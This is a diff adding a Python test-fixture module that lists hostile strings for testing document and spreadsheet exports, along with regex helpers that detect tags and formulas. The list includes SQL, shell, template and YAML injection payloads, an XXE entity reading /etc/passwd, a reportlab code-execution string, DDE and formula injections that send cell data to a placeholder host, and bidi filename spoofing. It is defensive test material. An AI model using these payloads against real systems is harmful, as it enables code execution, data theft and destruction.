@@ -1,0 +1,191 @@
+"""Two hundred texts that somebody may put where words are expected, to do something with whoever prints or opens them.
+
+Made up for these tests, along the lines of attacks that are publicly known; none of them does anything when it is only
+text. `is_formula` and `tags_of` say what an export must not contain.
+"""
+
+import re
+from itertools import product
+
+_TAGS = (
+    "<b>bold</b>",
+    "<i>",
+    "</para>",
+    "<br/>",
+    "<a href='file:///etc/passwd'>a</a>",
+    '<a href="javascript:alert(1)">a</a>',
+    "<link href='http://example.invalid'>a</link>",
+    "<img src='file:///etc/passwd' width='10' height='10'/>",
+    '<img src="http://example.invalid/x.png"/>',
+    "<font color='red'>a</font>",
+    "<font color=\"[[[getattr(pow, Word('__globals__'))['os'].system('id') for Word in [str]]]]\">a</font>",
+    "<para backColor='red'>a</para>",
+    "<super>1</super>",
+    "<onDraw name='x' label='y'/>",
+    "<unichar code='65'/>",
+    "<seq id='x'/>",
+    "<greek>a</greek>",
+    "<script>alert(1)</script>",
+    "<svg onload=alert(1)>",
+    "<iframe src='file:///etc/passwd'></iframe>",
+    "<style>*{display:none}</style>",
+    "<!-- -->",
+    "<![CDATA[x]]>",
+    "<?xml version='1.0'?>",
+    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
+    "&e;",
+    "&lt;b&gt;",
+    "&#60;b&#62;",
+    "&amp;amp;",
+    "</td></tr></table>",
+    "<b",
+    "a<b>c",
+    "1 < 2 & 3 > 2",
+    "<<<>>>",
+    "<a name='x'/>",
+    "<b>&#x3c;/b>",
+    "<a href='https://example.invalid/?q=%3Cscript%3E'>a</a>",
+    "<img src='data:image/png;base64,AAAA'/>",
+)
+_FORMULAS = (
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://example.invalid?x="&A1,"click")',
+    '=IMPORTXML(CONCAT("http://example.invalid?v=", A1), "//a")',
+    "+1+1",
+    "+cmd|' /C calc'!A0",
+    "-1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "@A1",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "＝1+1",
+    "=\u200b1+1",
+    "'=1+1",
+    '"=1+1"',
+    '"",=1+1',
+    ";=1+1",
+    ",=1+1",
+    '=DDE("cmd";"/C calc";"x")',
+    '=WEBSERVICE("http://example.invalid")',
+    "=rundll32|'x'!A1",
+)
+_CONTROLS = (
+    "\u202egpj.exe",
+    "\u202dleft",
+    "\u2066isolate\u2069",
+    "\u2067right",
+    "a\u202eb\u202cc",
+    "\u200e\u200f",
+    "zero\u200bwidth",
+    "soft\u00adhyphen",
+    "\u2028line",
+    "\u2029paragraph",
+    "\ufeffmark",
+    "\ufffe",
+    "\x00",
+    "a\x00b",
+    "\x07bell",
+    "\x08\x08\x08back",
+    "\x1b[31mred\x1b[0m",
+    "\x1b]0;title\x07",
+    "\x7f",
+    "\x85",
+    "a\nb",
+    "a\r\nb",
+    "\r",
+    "\t\t",
+    "\x0c",
+    "e\u0301" * 8,
+    "\u0300" * 60,
+    "\ud800",
+    "\udfff",
+    "\U000e0041",
+    "\U0001f600",
+    "👩‍⚕️",
+    "ﷺ",
+    "שלום",
+    "سلام",
+    "漢字",
+    "ÄÖÜß",
+    "\xa0",
+    "",
+    " ",
+)
+_CODE = (
+    "'; DROP TABLE event; --",
+    '" OR 1=1 --',
+    "') UNION SELECT sealed FROM event --",
+    "%s%s%s%n",
+    "%(subject)s",
+    "{subject}",
+    "{0.__class__}",
+    "{{7*7}}",
+    "${7*7}",
+    "$(id)",
+    "`id`",
+    "| id",
+    "; rm -rf .",
+    "&& id",
+    "\\x41",
+    "\\",
+    "\\\\server\\share",
+    "../../etc/passwd",
+    "/etc/passwd",
+    "C:\\x",
+    "file:///etc/passwd",
+    "javascript:alert(1)",
+    "data:text/html,<b>",
+    "(parenthesis",
+    "closing) Tj ET",
+    ") Tj /URI (http://example.invalid) (",
+    "endstream endobj",
+    "%%EOF",
+    "%PDF-1.4",
+    "/JavaScript /JS (app.alert(1))",
+    "<< /S /URI /URI (http://example.invalid) >>",
+    "null",
+    "None",
+    "NaN",
+    "true",
+    "1e309",
+    "0x41",
+    "00000",
+    "-0",
+    "1,5",
+    "1;5",
+    "a,b",
+    'a"b',
+    'a""b',
+    "a'b",
+    "'",
+    '"',
+    "__import__('os').system('id')",
+    "!!python/object/apply:os.system ['id']",
+    "*alias &anchor",
+    "- a: b",
+    "#comment",
+)
+_LONG = tuple(
+    piece * (size // len(piece))
+    for piece, size in product(("a", "W", "<b>", "=1", "( ", "é", "x y ", "\u202e"), (300, 4_000, 20_000))
+)
+HOSTILE = (*_TAGS, *_FORMULAS, *_CONTROLS, *_CODE, *_LONG, *(f"{one}{two}" for one, two in zip(_FORMULAS, _TAGS)))  # noqa: B905
+"""All of them."""
+
+_TAG = re.compile(r"<\s*/?\s*[A-Za-z!?][^<]*>|<\s*/?\s*[A-Za-z!?]")
+_FORMULA = re.compile(r"^[\s\u200b\ufeff]*[=+\-@\uff1d]")
+_NUMBER = re.compile(r"[-+]?\d+([.,]\d+)?(e[-+]?\d+)?", re.IGNORECASE)
+
+
+def tags_of(text: str) -> list[str]:
+    """Return what an HTML or reportlab reader would take for tags in a text."""
+    return _TAG.findall(text)
+
+
+def is_formula(cell: str) -> bool:
+    """Whether a spreadsheet could take a cell for a formula; a plain number is none."""
+    return bool(_FORMULA.match(cell)) and not _NUMBER.fullmatch(cell.strip())
